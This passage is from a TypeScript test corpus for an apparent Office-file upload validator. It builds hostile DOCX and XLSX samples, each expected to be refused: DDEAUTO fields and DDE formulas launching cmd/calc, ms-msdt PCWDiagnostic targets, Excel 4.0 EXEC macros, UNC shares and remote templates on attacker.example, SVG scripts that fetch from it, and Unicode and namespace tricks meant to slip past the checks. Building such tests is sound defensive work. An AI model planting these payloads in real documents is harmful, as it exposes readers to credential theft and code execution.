      () => drawingShape(`textlink="'\\\\attacker.example\\share\\[b.xlsx]Sheet1'!$A$1"`),
      'OOXML_EXTERNAL',
    ),
  ];
}

/**
 * Word's online video whose HTML, rendered by Internet Explorer's engine as the video is clicked,
 * is not a video site's iframe (round 10): a script, a `javascript:` or a share's frame. Each was
 * VALID without a warning.
 */
function onlineVideoOfficeItems(): CorpusItem[] {
  return Object.entries({
    script: '<script>new ActiveXObject("WScript.Shell").Run("calc")</script>',
    'javascript-frame': '<iframe SRC="javascript:location=\'https://attacker.example/x.hta\'"></iframe>',
    'share-frame': '<iframe src="\\\\attacker.example\\share\\v.html"></iframe>',
    'frame-with-handler': '<iframe src="https://www.youtube.com/embed/x" onload="document.write(1)"></iframe>',
    'frame-then-script': `${YOUTUBE_EMBED}<script src="https://attacker.example/x.js"></script>`,
  }).map(([what, html]) =>
    item(`docx-online-video-${what}`, 'OOXML external', () => onlineVideo(html), 'OOXML_EXTERNAL'),
  );
}

/**
 * An SVG picture (`<asvg:svgBlip>`, drawn by Office 2016 and later instead of its blip's PNG
 * copy) that loads an external relationship typed as a hyperlink to a web address, by `r:embed`
 * or `r:link` (round 10): a tracking address fetched as the file opens. Each was VALID with a
 * warning.
 */
function svgPictureOfficeItems(): CorpusItem[] {
  const TRACK = 'http://attacker.example/track';
  return [
    item(
      'docx-svg-picture-fetches-hyperlink-relationship',
      'OOXML external',
      () => documentFetching(`<w:p>${inlinePicture(svgPicture('r:embed="rId9"'))}</w:p>`, TRACK),
      'OOXML_EXTERNAL',
    ),
    item(
      'docx-svg-picture-linked',
      'OOXML external',
      () => documentFetching(`<w:p>${inlinePicture(svgPicture('r:link="rId9"'))}</w:p>`, TRACK),
      'OOXML_EXTERNAL',
    ),
    item(
      'xlsx-svg-picture-fetches-hyperlink-relationship',
      'OOXML external',
      () =>
        workbookPicture(svgPicture('r:embed="rId2"').replace(/rId8/g, 'rId1'), [
          rel('rId1', 'image', '../media/image1.png'),
          rel('rId2', 'hyperlink', TRACK, true),
        ]),
      'OOXML_EXTERNAL',
    ),
  ];
}

/**
 * Link targets as Word and Excel decode them (round 11): a UTF-8 no-break space, an ideographic
 * space or NEL before a share, which the reader's trim drops, and a share written in full-width
 * ASCII, which a best-fit conversion folds to backslashes. The streamed checks read a part a byte
 * a character, so the first three were bytes no trim drops, and the target looked relative: each
 * was VALID in a Word field, a VML picture's source, an Excel HYPERLINK literal and a string it
 * picks; NEL and the full-width share were VALID or a warning in a relationship and a hyperlink
 * base too.
 */
function decodedTargetOfficeItems(): CorpusItem[] {
  const EXTERNAL = 'OOXML external';
  const LEADS: Record<string, string> = {
    'no-break-space': '\u00a0\\\\attacker.example\\share\\x.docx',
    'ideographic-space': '\u3000\\\\attacker.example\\share\\x.docx',
    nel: '\u0085\\\\attacker.example\\share\\x.docx',
    'full-width': '＼＼attacker.example＼share＼x.docx',
  };
  // As Word writes it in a field's quoted target: each backslash doubled.
  const inField = (target: string) => target.replace(/\\/g, '\\\\');
  return Object.entries(LEADS).flatMap(([what, target]) => [
    item(
      `docx-hyperlink-relationship-share-after-${what}`,
      EXTERNAL,
      () =>
        documentLinking('<w:p><w:hyperlink r:id="rId7"><w:r><w:t>附件</w:t></w:r></w:hyperlink></w:p>', [
          rel('rId7', 'hyperlink', target, true),
        ]),
      'OOXML_EXTERNAL',
    ),
    item(`docx-hyperlink-base-share-after-${what}`, EXTERNAL, () => hyperlinkBase(target), 'OOXML_EXTERNAL'),
    item(
      `docx-hyperlink-field-share-after-${what}`,
      EXTERNAL,
      () => documentWith(complexField(` HYPERLINK "${inField(target)}" `)),
      'OOXML_EXTERNAL',
    ),
    item(
      `docx-vml-picture-source-share-after-${what}`,
      EXTERNAL,
      () => documentVml(`<v:shape style="width:9pt;height:9pt"><v:imagedata src="${target}"/></v:shape>`),
      'OOXML_EXTERNAL',
    ),
    item(
      `xlsx-hyperlink-formula-share-after-${what}`,
      EXTERNAL,
      () => sheetWithFormula(`HYPERLINK(&quot;${target}&quot;,&quot;附件&quot;)`),
      'OOXML_EXTERNAL',
    ),
    item(
      `xlsx-hyperlink-picks-string-share-after-${what}`,
      EXTERNAL,
      () =>
        workbookWithStrings('<c r="A1" t="s"><v>0</v></c><c r="B1" t="str"><f>HYPERLINK(A1)</f><v>打开</v></c>', [
          target,
        ]),
      'OOXML_EXTERNAL',
    ),
  ]);
}

/**
 * References into another workbook whose path is a share or a URL that does not start with `\\`
 * or a scheme's `:/` (round 12): two forward slashes, full-width backslashes, a full-width drive.
 * The formula check found a path by those bytes only, so each was VALID; now the book's bracket
 * finds the reference and its path is judged as followed. A no-break space before `\\host`
 * (round 11's leftover) was refused already, the path found anywhere in the formula; it is kept
 * here so it stays so.
 */
function bookPathOfficeItems(): CorpusItem[] {
  const EXTERNAL = 'OOXML external';
  const PATHS: Record<string, string> = {
    'forward-slashes': "'//attacker.example/share/[b.xlsx]Sheet1'!A1",
    'full-width-share': "'＼＼attacker.example＼share＼[b.xlsx]Sheet1'!A1",
    'full-width-drive': "SUM('Ｃ：＼资料＼[b.xlsx]Sheet1'!A1:A9)",
    'no-break-space-share': "'\u00a0\\\\attacker.example\\share\\[b.xlsx]Sheet1'!A1",
  };
  return Object.entries(PATHS).flatMap(([what, formula]) => [
    item(`xlsx-book-reference-${what}`, EXTERNAL, () => sheetWithFormula(formula), 'OOXML_EXTERNAL'),
    item(`xlsx-defined-name-book-reference-${what}`, EXTERNAL, () => definedNameFormula(formula), 'OOXML_EXTERNAL'),
  ]);
}

/**
 * Power Query's queries in a custom XML part outside `customXml/` (round 12): Excel finds a
 * workbook's custom XML by its relationship, wherever the part is, but the check read a
 * `DataMashup` only under `customXml/`, so one in UTF-8 under `xl/` or in another folder was VALID.
 * Now the relationship to it is refused (OOXML_UNREADABLE).
 */
function customXmlPlacedOfficeItems(): CorpusItem[] {
  const MASHUP = '<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAAAEUDAABQSwMEFAACAAgA</DataMashup>';
  const PLACES: Record<string, [string, string]> = {
    'under-xl': ['customData/item1.xml', 'xl/customData/item1.xml'],
    'customxml-subfolder': ['../customXml/queries/item1.xml', 'customXml/queries/item1.xml'],
    docprops: ['../docProps/item1.xml', 'docProps/item1.xml'],
  };
  return Object.entries(PLACES).map(([where, [target, part]]) =>
    item(
      `xlsx-power-query-custom-xml-${where}`,
      'OOXML unreadable',
      () => workbookCustomXml(target, part, MASHUP),
      'OOXML_UNREADABLE',
    ),
  );
}

/**
 * Media a picture stands for, naming an external relationship typed as a hyperlink to a web
 * address (round 12): DrawingML's linked video and audio, Office 2010's media and Word's movie.
 * A linked medium is retrieved from its relationship's target; each was VALID with a warning.
 */
function mediaOfficeItems(): CorpusItem[] {
  const TRACKER = 'https://attacker.example/t.mp4';
  const picture = (media: string) =>
    `<w:p><w:r><w:drawing><wp:inline><wp:extent cx="952500" cy="952500"/><wp:docPr id="1" name="视频 1"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="视频 1"/><pic:cNvPicPr/><pic:nvPr>${media}</pic:nvPr></pic:nvPicPr><pic:blipFill><a:blip r:embed="rId8"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`;
  const BODIES: Record<string, string> = {
    'video-file': picture('<a:videoFile r:link="rId9"/>'),
    'audio-file': picture('<a:audioFile r:link="rId9"/>'),
    'office-2010-media': picture(
      '<a:extLst><a:ext uri="{DAA4B4D4-6D71-4841-9C94-3DE7FCFB9230}"><p14:media xmlns:p14="http://schemas.microsoft.com/office/powerpoint/2010/main" r:embed="rId9"/></a:ext></a:extLst>',
    ),
    movie:
      '<w:p><w:r><w:pict><v:shape id="影片 1" style="width:160pt;height:120pt"><w:movie r:id="rId9"/><v:imagedata r:id="rId8" o:title=""/></v:shape></w:pict></w:r></w:p>',
  };
  return Object.entries(BODIES).map(([what, body]) =>
    item(`docx-${what}-loads-hyperlink`, 'OOXML external', () => documentFetching(body, TRACKER), 'OOXML_EXTERNAL'),
  );
}

/**
 * OLE objects as Word 2010 and Excel 2010 write them, naming an external relationship typed as a
 * hyperlink to a web address (round 12): Word's linked object (`<w:objectLink
 * w:updateMode="always">`, updated as the document opens), a VML picture's alternate image
 * (`r:pict`), and the pictures Excel draws for an OLE object and a control (`<objectPr r:id>`,
 * `<controlPr r:id>`). Each was VALID with a warning.
 */
function objectPictureOfficeItems(): CorpusItem[] {
  const TRACKER = 'https://attacker.example/t.png';
  const hyperlinkAndPicture = [rel('rId8', 'image', '../media/image1.png'), rel('rId9', 'hyperlink', TRACKER, true)];
  return [
    item(
      'docx-object-link-loads-hyperlink',
      'OOXML external',
      () =>
        documentFetching(
          '<w:p><w:r><w:object w:dxaOrig="4320" w:dyaOrig="2880"><w:drawing/><w:objectLink w:drawAspect="content" r:id="rId9" w:progId="Excel.Sheet.12" w:shapeId="1" w:fieldCodes="" w:updateMode="always"/></w:object></w:r></w:p>',
          TRACKER,
        ),
      'OOXML_EXTERNAL',
    ),
    item(
      'docx-vml-alternate-picture-loads-hyperlink',
      'OOXML external',
      () =>
        documentFetching(
          '<w:p><w:r><w:pict><v:shape id="图片 1" style="width:75pt;height:75pt"><v:imagedata r:id="rId8" r:pict="rId9" o:title=""/></v:shape></w:pict></w:r></w:p>',
          TRACKER,
        ),
      'OOXML_EXTERNAL',
    ),
    item(
      'xlsx-ole-object-picture-loads-hyperlink',
      'OOXML external',
      () =>
        sheetLoading(
          '<oleObjects><oleObject progId="Package" shapeId="1025" r:id="rId8"><objectPr defaultSize="0" r:id="rId9"/></oleObject></oleObjects>',
          hyperlinkAndPicture,
        ),
      'OOXML_EXTERNAL',
    ),
    item(
      'xlsx-control-picture-loads-hyperlink',
      'OOXML external',
      () =>
        sheetLoading(
          '<controls><control shapeId="1025" r:id="rId8" name="复选框 1"><controlPr defaultSize="0" r:id="rId9"/></control></controls>',
          hyperlinkAndPicture,
        ),
      'OOXML_EXTERNAL',
    ),
  ];
}

/**
 * Round 12: one folding of every format's targets (../../../shared/validation/link-target.ts). What
 * the PDF check folded and Office's did not (a fraction-slash share, a combining mark inside a
 * program's scheme, a ligature in `file:`), and what none dropped (a zero-width space before a share
 * or inside a scheme): each relative, VALID or a warning, in a relationship, a field and a formula.
 */
function foldedTargetOfficeItems(): CorpusItem[] {
  const EXTERNAL = 'OOXML external';
  const TARGETS: Record<string, string> = {
    'fraction-slash-share': '\u2044\u2044attacker.example\u2044share\u2044x.docx',
    'combining-mark-in-scheme': 'ms-m\u0300sdt:/id PCWDiagnostic',
    'ligature-in-file-scheme': '\ufb01le://attacker.example/share/x.docx',
    'zero-width-space-before-share': '\u200b\\\\attacker.example\\share\\x.docx',
    'zero-width-space-in-scheme': 'ms-ms\u200bdt:/id PCWDiagnostic',
  };
  const inField = (target: string) => target.replace(/\\/g, '\\\\');
  return Object.entries(TARGETS).flatMap(([what, target]) => [
    item(
      `docx-hyperlink-relationship-${what}`,
      EXTERNAL,
      () =>
        documentLinking('<w:p><w:hyperlink r:id="rId7"><w:r><w:t>附件</w:t></w:r></w:hyperlink></w:p>', [
          rel('rId7', 'hyperlink', target, true),
        ]),
      'OOXML_EXTERNAL',
    ),
    item(
      `docx-hyperlink-field-${what}`,
      EXTERNAL,
      () => documentWith(complexField(` HYPERLINK "${inField(target)}" `)),
      'OOXML_EXTERNAL',
    ),
    item(
      `xlsx-hyperlink-formula-${what}`,
      EXTERNAL,
      () => sheetWithFormula(`HYPERLINK(&quot;${target}&quot;,&quot;附件&quot;)`),
      'OOXML_EXTERNAL',
    ),
  ]);
}

/**
 * Round 13: a namespace prefix is any XML name, Chinese ones included (`<文:instrText>` under
 * `xmlns:文="…wordprocessingml…"` is Word's instrText to a namespace-aware reader). The Office
 * checks matched prefixes of ASCII letters only, so a field, a formula or a Relationship under a
 * prefix beyond ASCII was not seen at all: VALID without a finding.
 */
function prefixedOfficeItems(): CorpusItem[] {
  const W = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
  const S = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
  const XML_DECLARATION = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';
  /** The part stored, not deflated, so it reaches the checks in the upload's 64 KiB pieces. */
  const documentUnder = (p: string, runs: string) =>
    buildZip(
      docxEntries().map((e) =>
        e.name === 'word/document.xml'
          ? {
              ...e,
              compress: false,
              data: `${XML_DECLARATION}<${p}:document xmlns:${p}="${W}"><${p}:body><${p}:p>${runs}</${p}:p></${p}:body></${p}:document>`,
            }
          : e,
      ),
    );
  const sheetUnder = (p: string, formula: string) =>
    buildZip(
      xlsxEntries().map((e) =>
        e.name === 'xl/worksheets/sheet1.xml'
          ? {
              ...e,
              compress: false,
              data: `${XML_DECLARATION}<${p}:worksheet xmlns:${p}="${S}"><${p}:sheetData><${p}:row r="1"><${p}:c r="A1"><${p}:f>${formula}</${p}:f><${p}:v>0</${p}:v></${p}:c></${p}:row></${p}:sheetData></${p}:worksheet>`,
            }
          : e,
      ),
    );
  const dde = ' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" ';
  const LONG_PREFIX = 'p'.repeat(70_000);
  const field = (p: string) =>
    `<${p}:r><${p}:fldChar ${p}:fldCharType="begin"/></${p}:r><${p}:r><${p}:instrText xml:space="preserve">${dde}</${p}:instrText></${p}:r><${p}:r><${p}:fldChar ${p}:fldCharType="end"/></${p}:r>`;
  return [
    item('docx-ddeauto-chinese-prefix', 'DDE', () => documentUnder('文', field('文')), 'OOXML_DDE'),
    item('docx-ddeauto-accented-prefix', 'DDE', () => documentUnder('wé', field('wé')), 'OOXML_DDE'),
    item(
      'docx-ddeauto-simple-field-chinese-prefix',
      'DDE',
      () =>
        documentUnder(
          '文',
          `<文:fldSimple 文:instr="${dde.replaceAll('"', '&quot;')}"><文:r><文:t>1</文:t></文:r></文:fldSimple>`,
        ),
      'OOXML_DDE',
    ),
    item('xlsx-dde-formula-chinese-prefix', 'DDE', () => sheetUnder('表', "cmd|' /c calc'!A0"), 'OOXML_DDE'),
    item(
      'xlsx-webservice-chinese-prefix',
      'OOXML external',
      () => sheetUnder('表', '_xlfn.WEBSERVICE(&quot;http://attacker.example/x&quot;)'),
      'OOXML_EXTERNAL',
    ),
    item(
      'docx-linked-picture-chinese-prefixes',
      'OOXML external',
      () =>
        documentLinking(
          `<w:p>${inlinePicture('关:link="rId9"')
            .replaceAll('a:blip', '图:blip')
            .replace(
              '<w:drawing>',
              `<w:drawing xmlns:图="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:关="${REL}">`,
            )}</w:p>`,
          [rel('rId9', 'hyperlink', 'http://attacker.example/track.png', true)],
        ),
      'OOXML_EXTERNAL',
    ),
    item(
      'docx-embedded-picture-web-relationship-chinese-prefixes',
      'OOXML external',
      () =>
        documentLinking(
          `<w:p>${inlinePicture('关:embed="rId9"')
            .replaceAll('a:blip', '图:blip')
            .replace(
              '<w:drawing>',
              `<w:drawing xmlns:图="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:关="${REL}">`,
            )}</w:p>`,
          [rel('rId9', 'hyperlink', 'http://attacker.example/track.png', true)],
        ),
      'OOXML_EXTERNAL',
    ),
    item(
      'docx-hyperlink-field-share-chinese-prefix',
      'OOXML external',
      () =>
        documentUnder(
          '文',
          `<文:r><文:fldChar 文:fldCharType="begin"/></文:r><文:r><文:instrText> HYPERLINK "\\\\\\\\attacker.example\\\\s\\\\x.docx" </文:instrText></文:r><文:r><文:fldChar 文:fldCharType="end"/></文:r>`,
        ),
      'OOXML_EXTERNAL',
    ),
    item(
      'docx-mail-merge-chinese-prefix',
      'OOXML external',
      () =>
        office('docx', {
          'word/settings.xml': `${XML_DECLARATION}<设:settings xmlns:设="${W}"><设:mailMerge><设:mainDocumentType 设:val="formLetters"/><设:linkToQuery/><设:dataType 设:val="native"/><设:connectString 设:val="Provider=Microsoft.ACE.OLEDB.12.0;Data Source=\\\\attacker.example\\s\\d.xlsx"/><设:query 设:val="SELECT * FROM x"/></设:mailMerge></设:settings>`,
        }),
      'OOXML_EXTERNAL',
    ),
    // A prefix longer than the text stream's 64 KiB window: in small pieces the tag reached the
    // checks cut, the first piece all prefix, so no check saw its local name (VALID; see
    // ../validation/ooxml/prefixes.test.ts). In the upload's 64 KiB pieces it was refused already.
    item(
      'docx-ddeauto-prefix-past-window',
      'DDE',
      () => documentUnder(LONG_PREFIX, field(LONG_PREFIX)),
      'OOXML_UNREADABLE',
    ),
    item(
      'xlsx-dde-formula-prefix-past-window',
      'DDE',
      () => sheetUnder(LONG_PREFIX, "cmd|' /c calc'!A0"),
      'OOXML_UNREADABLE',
    ),
    item(
      'docx-hyperlink-base-share-chinese-prefix',
      'OOXML external',
      () =>
        office('docx', {
          '[Content_Types].xml': contentTypes(
            'docx',
            '<Override PartName="/docProps/app.xml" ContentType="application/vnd.openxmlformats-officedocument.extended-properties+xml"/>',
          ),
          '_rels/.rels': rels(
            rel('rId1', 'officeDocument', 'word/document.xml'),
            rel('rId2', 'extended-properties', 'docProps/app.xml'),
          ),
          'docProps/app.xml': `${XML_DECLARATION}<属:Properties xmlns:属="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties"><属:HyperlinkBase>\\\\attacker.example\\share\\</属:HyperlinkBase></属:Properties>`,
        }),
      'OOXML_EXTERNAL',
    ),
    item(
      'xlsx-hyperlink-picking-program-string-chinese-prefix',
      'OOXML external',
      () =>
        office('xlsx', {
          '[Content_Types].xml': contentTypes(
            'xlsx',
            '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>',
          ),
          'xl/_rels/workbook.xml.rels': rels(
            rel('rId1', 'worksheet', 'worksheets/sheet1.xml'),
            rel('rId2', 'styles', 'styles.xml'),
            rel('rId3', 'sharedStrings', 'sharedStrings.xml'),
          ),
          'xl/worksheets/sheet1.xml': `${XML_DECLARATION}<表:worksheet xmlns:表="${S}"><表:sheetData><表:row r="1"><表:c r="A1"><表:f>HYPERLINK(B1)</表:f></表:c><表:c r="B1" t="s"><表:v>0</表:v></表:c></表:row></表:sheetData></表:worksheet>`,
          'xl/sharedStrings.xml': `${XML_DECLARATION}<表:sst xmlns:表="${S}" count="1" uniqueCount="1"><表:si><表:t>ms-msdt:/id PCWDiagnostic /skip force</表:t></表:si></表:sst>`,
        }),
      'OOXML_EXTERNAL',
    ),
  ];
}

/**
 * ISO 29500 Strict (round 14): Word and Excel open a Strict file, whose markup's namespaces
 * (`http://purl.oclc.org/ooxml/…`) and relationship types differ from the transitional ones.
 * The element searches take any prefix and no namespace, and relationship types are matched by
 * their last segment, so each of these was refused already: pinned here.
 */
function strictOfficeItems(): CorpusItem[] {
  const XML_DECLARATION = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';
  const W = 'http://purl.oclc.org/ooxml/wordprocessingml/main';
  const S = 'http://purl.oclc.org/ooxml/spreadsheetml/main';
  const R = 'http://purl.oclc.org/ooxml/officeDocument/relationships';
  return [
    item(
      'docx-strict-ddeauto-field',
      'DDE',
      () =>
        office('docx', {
          '_rels/.rels': rels(rel('rId1', `${R}/officeDocument`, 'word/document.xml')),
          'word/document.xml': `${XML_DECLARATION}<w:document xmlns:w="${W}"><w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:document>`,
        }),
      'OOXML_DDE',
    ),
    item(
      'docx-strict-remote-template-share',
      'OOXML external',
      () =>
        office('docx', {
          'word/settings.xml': `${XML_DECLARATION}<w:settings xmlns:w="${W}" xmlns:r="${R}"><w:attachedTemplate r:id="rId1"/></w:settings>`,
          'word/_rels/settings.xml.rels': rels(
            rel('rId1', `${R}/attachedTemplate`, '\\\\attacker.example\\s\\t.dotm', true),
          ),
        }),
      'OOXML_EXTERNAL',
    ),
    item(
      'xlsx-strict-dde-formula',
      'DDE',
      () =>
        office('xlsx', {
          'xl/worksheets/sheet1.xml': `${XML_DECLARATION}<worksheet xmlns="${S}"><sheetData><row r="1"><c r="A1"><f>cmd|' /c calc'!A0</f></c></row></sheetData></worksheet>`,
        }),
      'OOXML_DDE',
    ),
    item(
      'xlsx-strict-external-workbook-share',
      'OOXML external',
      () =>
        office(
          'xlsx',
          {
            'xl/_rels/workbook.xml.rels': rels(
              rel('rId1', `${R}/worksheet`, 'worksheets/sheet1.xml'),
              rel('rId3', `${R}/externalLink`, 'externalLinks/externalLink1.xml'),
            ),
          },
          [
            {
              name: 'xl/externalLinks/externalLink1.xml',
              data: `${XML_DECLARATION}<externalLink xmlns="${S}" xmlns:r="${R}"><externalBook r:id="rId1"/></externalLink>`,
            },
            {
              name: 'xl/externalLinks/_rels/externalLink1.xml.rels',
              data: rels(rel('rId1', `${R}/externalLinkPath`, '\\\\attacker.example\\s\\b.xlsx', true)),
            },
          ],
        ),
      'OOXML_EXTERNAL',
    ),
    item(
      'xlsx-strict-macro-sheet-by-relationship',
      'macros',
      () =>
        office(
          'xlsx',
          {
            'xl/_rels/workbook.xml.rels': rels(
              rel('rId1', `${R}/worksheet`, 'worksheets/sheet1.xml'),
              rel('rId2', `${R}/xlMacrosheet`, 'worksheets/sheet2.xml'),
            ),
          },
          [{ name: 'xl/worksheets/sheet2.xml', data: `${XML_DECLARATION}<worksheet xmlns="${S}"/>` }],
        ),
      'MACROS',
    ),
  ];
}

/**
 * SVG pictures that load or run something (round 14, ../../../shared/validation/ooxml/svg.ts):
 * the SVG part of an `<asvg:svgBlip>` was read by no check, and each of these was VALID. Office
 * draws an SVG with a renderer of its own, but the picture is saved out and opened in a browser,
 * and other readers draw it with one.
 */
function svgContentOfficeItems(): CorpusItem[] {
  const NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';
  const withSvg = (inside: string) =>
    documentLinking(
      `<w:p>${inlinePicture(svgPicture('r:embed="rId7"'))}</w:p>`,
      [rel('rId7', 'image', 'media/image2.svg'), rel('rId8', 'image', 'media/image1.png')],
      { add: [{ name: 'word/media/image2.svg', data: `<svg ${NS} viewBox="0 0 96 96">${inside}</svg>` }] },
    );
  const GRAPHVIZ_DOCTYPE =
    '<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN"\n "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"';
  const withProlog = (prolog: string) =>
    documentLinking(
      `<w:p>${inlinePicture(svgPicture('r:embed="rId7"'))}</w:p>`,
      [rel('rId7', 'image', 'media/image2.svg'), rel('rId8', 'image', 'media/image1.png')],
      { add: [{ name: 'word/media/image2.svg', data: `${prolog}\n<svg ${NS} viewBox="0 0 96 96"><rect/></svg>` }] },
    );
  return [
    // Round 17: an SVG's DOCTYPE is refused, but the SVG DTD's own (Graphviz writes it).
    item(
      'docx-svg-doctype-entity',
      'DTD',
      () => withProlog(`${GRAPHVIZ_DOCTYPE} [<!ENTITY s "script">]>`),
      'OOXML_UNREADABLE',
    ),
    item(
      'docx-svg-doctype-outside-dtd',
      'DTD',
      () => withProlog('<!DOCTYPE svg SYSTEM "http://attacker.example/svg11.dtd">'),
      'OOXML_UNREADABLE',
    ),
    item(
      'docx-svg-script',
      'OOXML embedded object',
      () => withSvg('<script>fetch("http://attacker.example/")</script>'),
      'OOXML_EMBEDDED_OBJECT',
    ),
    item(
      'docx-svg-foreign-object-iframe',
      'OOXML embedded object',
      () =>
        withSvg(
          '<foreignObject width="96" height="96"><iframe xmlns="http://www.w3.org/1999/xhtml" src="http://attacker.example/"/></foreignObject>',
        ),
      'OOXML_EMBEDDED_OBJECT',
    ),
    item(
      'docx-svg-web-image',
      'OOXML external',
      () => withSvg('<image href="http://attacker.example/track.png"/>'),
      'OOXML_EXTERNAL',
    ),
    item(
      'docx-svg-share-image',
      'OOXML external',
      () => withSvg('<image xlink:href="\\\\attacker.example\\share\\x.png"/>'),
      'OOXML_EXTERNAL',
    ),
    item(
      'docx-svg-css-fill-from-web',
      'OOXML external',
      () => withSvg(`<rect style="fill:url('http://attacker.example/f.svg#g')"/>`),
      'OOXML_EXTERNAL',
    ),
    item(
      'xlsx-svg-share-image',
      'OOXML external',
      () =>
        workbookPicture(
          svgPicture('r:embed="rId2"').replace(/rId8/g, 'rId1'),
          [rel('rId1', 'image', '../media/image1.png'), rel('rId2', 'image', '../media/image2.svg')],
          undefined,
          [
            {
              name: 'xl/media/image2.svg',
              data: `<svg ${NS}><image xlink:href="\\\\attacker.example\\s\\x.png"/></svg>`,
            },
          ],
        ),
      'OOXML_EXTERNAL',
    ),
    item(
      'docx-svg-typed-png-name',
      'OOXML unreadable',
      () =>
        office(
          'docx',
          {
            '[Content_Types].xml': contentTypes(
              'docx',
              '<Override PartName="/word/media/image2.png" ContentType="image/svg+xml"/>',
            ),
          },
          [{ name: 'word/media/image2.png', data: `<svg ${NS}><image href="http://attacker.example/t.png"/></svg>` }],
        ),
      'OOXML_UNREADABLE',
    ),
  ];
}

/** A Word document with one chart (word/charts/chart1.xml) whose series' values come from `formula`. */
function documentWithChart(formula: string): Promise<Buffer> {
  const chart = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart"><c:chart><c:plotArea><c:barChart><c:barDir val="col"/><c:ser><c:idx val="0"/><c:order val="0"/><c:tx><c:strRef><c:f>Sheet1!$B$1</c:f><c:strCache><c:ptCount val="1"/><c:pt idx="0"><c:v>营业收入</c:v></c:pt></c:strCache></c:strRef></c:tx><c:val><c:numRef><c:f>${formula}</c:f><c:numCache><c:formatCode>General</c:formatCode><c:ptCount val="1"/><c:pt idx="0"><c:v>86.5</c:v></c:pt></c:numCache></c:numRef></c:val></c:ser></c:barChart></c:plotArea></c:chart></c:chartSpace>`;
  return office(
    'docx',
    {
      ...mainRels('docx', rel('rId7', 'chart', 'charts/chart1.xml')),
      '[Content_Types].xml': contentTypes(
        'docx',
        '<Override PartName="/word/charts/chart1.xml" ContentType="application/vnd.openxmlformats-officedocument.drawingml.chart+xml"/>',
      ),
    },
    [{ name: 'word/charts/chart1.xml', data: chart }],
  );
}

/**
 * A Word chart's series formula (`c:f`) naming another book in a share, or DDE (round 14): Word's
 * charts were read for fields and pictures only, so both were VALID. Word draws a chart from its
 * cached values; editing or refreshing its data follows the formula, and a share leaks the
 * reader's credentials, so it is refused as an Excel chart's is.
 */
function wordChartOfficeItems(): CorpusItem[] {
  return [
    item(
      'docx-chart-series-formula-share',
      'OOXML external',
      () => documentWithChart("'\\\\attacker.example\\s\\[b.xlsx]Sheet1'!$B$2:$B$5"),
      'OOXML_EXTERNAL',
    ),
    item('docx-chart-series-formula-dde', 'DDE', () => documentWithChart("cmd|' /c calc'!A0"), 'OOXML_DDE'),
  ];
}

/**
 * A document imported by altChunk whose relationship is typed as something else (round 14): the
 * aFChunk type was refused, the `<w:altChunk>` element was not, so an RTF chunk carrying an OLE
 * object (the Equation Editor's shape) typed as a picture, and an MHT chunk with a script, an
 * iframe and a share's picture typed as a hyperlink, were VALID.
 */
function altChunkOfficeItems(): CorpusItem[] {
  const importing = (type: string, target: string, chunk: string) =>
    office(
      'docx',
      {
        ...mainRels('docx', rel('rId9', type, target)),
        'word/document.xml': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${REL}"><w:body><w:altChunk r:id="rId9"/><w:p/></w:body></w:document>`,
      },
      [{ name: `word/${target}`, data: chunk }],
    );
  return [
    item(
      'docx-alt-chunk-rtf-equation-typed-as-picture',
      'OOXML embedded object',
      () =>
        importing(
          'image',
          'media/image5.png',
          '{\\rtf1{\\object\\objemb{\\*\\objclass Equation.3}{\\*\\objdata d0cf11e0a1b11ae1}}}',
        ),
      'OOXML_EMBEDDED_OBJECT',
    ),
    item(
      'docx-alt-chunk-mht-script-typed-as-hyperlink',
      'OOXML embedded object',
      () =>
        importing(
          'hyperlink',
          'chunk.mht',
          'MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<script>location="http://attacker.example/"</script><iframe src="http://attacker.example/"></iframe><img src="\\\\attacker.example\\share\\x.png">',
        ),
      'OOXML_EMBEDDED_OBJECT',
    ),
  ];
}

/**
 * Excel 4.0 macro sheets and macro-enabled main parts where a reader finds them (round 14): by
 * content type or relationship type under a worksheet's name, and a content type override naming
 * its part in other case (part names are case-insensitive in OPC). Each was refused already, by
 * type whatever the name (../../../shared/validation/ooxml/content-types.ts, relationships.ts):
 * pinned here.
 */
function macroPlacedOfficeItems(): CorpusItem[] {
  const XML_DECLARATION = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';
  const S = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
  const macroSheet = `${XML_DECLARATION}<xm:macrosheet xmlns="${S}" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData><row r="1"><c r="A1"><f>EXEC("calc")</f></c><c r="A2"><f>HALT()</f></c></row></sheetData></xm:macrosheet>`;
  return [
    item(
      'xlsx-macro-sheet-typed-under-worksheet-name',
      'macros',
      () =>
        office(
          'xlsx',
          {
            '[Content_Types].xml': contentTypes(
              'xlsx',
              '<Override PartName="/xl/worksheets/sheet2.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>',
            ),
